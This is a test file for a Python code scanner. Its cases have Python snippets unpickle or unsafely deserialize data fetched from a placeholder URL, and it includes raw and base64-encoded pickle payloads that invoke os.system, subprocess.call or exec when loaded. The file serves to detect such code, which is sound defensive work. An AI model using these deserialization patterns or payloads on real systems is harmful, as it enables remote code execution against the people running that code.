import { pythonReady } from './grammar';
import { readPython } from './read-python';

const FETCH = 'urllib.request.urlopen("https://x.invalid/a")';
const FETCHED = `import io, urllib.request\nH = ${FETCH}.read()\n`;

const signalsOf = (code: string) =>
  readPython('x.py', `${FETCHED}${code}\n`).observations.map(({ signal }) => signal);

describe('ast/python/unpickles', () => {
  beforeAll(pythonReady);

  it.each<[title: string, code: string]>([
    ['bytes', 'import pickle\npickle.loads(H)'],
    ['a stream', `import pickle\npickle.load(${FETCH})`],
    ['its class', 'import pickle\npickle.Unpickler(io.BytesIO(H)).load()'],
    ['its inner module', 'from _pickle import loads\nloads(H)'],
    [
      'in a function that is called',
      `import pickle\ndef start():\n    pickle.loads(${FETCH}.read())\nstart()`,
    ],
    ['dill', 'import dill\ndill.loads(H)'],
    ['cloudpickle', 'import cloudpickle\ncloudpickle.loads(H)'],
    ['joblib', 'import joblib\njoblib.load(io.BytesIO(H))'],
    ['a file that it was kept in', 'import joblib\nopen("/tmp/m", "wb").write(H)\njoblib.load("/tmp/m")'],
    ['torch', 'import torch\ntorch.load(io.BytesIO(H))'],
    ['torch, told to', 'import torch\ntorch.load(io.BytesIO(H), weights_only=False)'],
    ['numpy, told to', 'import numpy as np\nnp.load(io.BytesIO(H), allow_pickle=True)'],
    [
      'numpy, told to by who runs it',
      'import os, numpy\nnumpy.load(io.BytesIO(H), allow_pickle=bool(os.sep))',
    ],
    ['numpy, told to without a name', 'import numpy\nnumpy.load(io.BytesIO(H), None, True)'],
    ['pandas', 'import pandas as pd\npd.read_pickle(io.BytesIO(H))'],
    ['jsonpickle', 'import jsonpickle\njsonpickle.decode(H)'],
    ['yaml', 'import yaml\nyaml.unsafe_load(H)'],
    ['yaml with a loader', 'import yaml\nyaml.load(H, Loader=yaml.UnsafeLoader)'],
    ['yaml with the old one', 'import yaml\nyaml.load(H, yaml.Loader)'],
  ])('objects are made of what is fetched, as soon as it is imported: %s', (_title, code) => {
    expect(signalsOf(code)).toContain('remote-code');
  });

  it.each<[title: string, code: string]>([
    ['settings of a log', 'import json, logging.config\nlogging.config.dictConfig(json.loads(H))'],
    ['a file of settings of a log', 'import logging.config\nlogging.config.fileConfig(io.StringIO(H))'],
  ])('makes objects of what is fetched: %s', (_title, code) => {
    expect(signalsOf(code)).toContain('remote-code');
  });

  it.each<[title: string, pickled: string]>([
    ['that stands there', String.raw`b"cos\nsystem\n(S'x'\ntR."`],
    [
      'of a later form',
      String.raw`b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x01x\x94\x85\x94R\x94."`,
    ],
    ['in base64', `base64.b64decode("${Buffer.from("cbuiltins\nexec\n(S'x'\ntR.").toString('base64')}")`],
    ['as a stream', String.raw`io.BytesIO(b"csubprocess\ncall\n(S'x'\ntR.")`],
  ])('sees what calls a program when it is unpickled: %s', (_title, pickled) => {
    expect(signalsOf(`import base64, pickle\npickle.loads(${pickled})`)).toContain('decoded-code');
  });

  it.each<[title: string, pickled: string]>([
    ['a table', String.raw`b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x06system\x94K\x01s."`],
    ['a class of the library', String.raw`b"ccollections\nOrderedDict\n(tR."`],
    ['text about a system', String.raw`b"\x8c\x10the os and system."`],
  ])('is silent about %s that is unpickled', (_title, pickled) => {
    expect(signalsOf(`import pickle\npickle.loads(${pickled})`)).not.toContain('decoded-code');
  });

  it.each<[title: string, code: string]>([
    [
      'of settings of a log that stand there',
      'import logging.config\nlogging.config.dictConfig({"version": 1})\nprint(H)',
    ],
    [
      'when somebody asks for it',
      `import pickle\ndef model(url):\n    return pickle.loads(urllib.request.urlopen(url).read())`,
    ],
    ['when it is run as a program', `import pickle\nif __name__ == "__main__":\n    pickle.loads(H)`],
    ['from a path of its user', 'import joblib\ndef load(path):\n    return joblib.load(path)'],
    [
      'from a file of the package',
      'import os, pickle\nM = pickle.load(open(os.path.join(os.path.dirname(__file__), "m"), "rb"))',
    ],
    ['of weights alone', 'import torch\ntorch.load(io.BytesIO(H), weights_only=True)'],
    ['of numbers, and told so', 'import numpy\nnumpy.load(io.BytesIO(H), allow_pickle=False)'],
    ['of numbers alone', 'import numpy\nnumpy.load(io.BytesIO(H))'],
    [
      'of settings',
      'import yaml\nyaml.safe_load(H)\nyaml.load(H, Loader=yaml.SafeLoader)\nyaml.load(H, yaml.FullLoader)',
    ],
    ['of JSON', 'import json\njson.loads(H)'],
  ])('is silent about objects that are made %s', (_title, code) => {
    expect(signalsOf(code)).not.toContain('remote-code');
  });
});
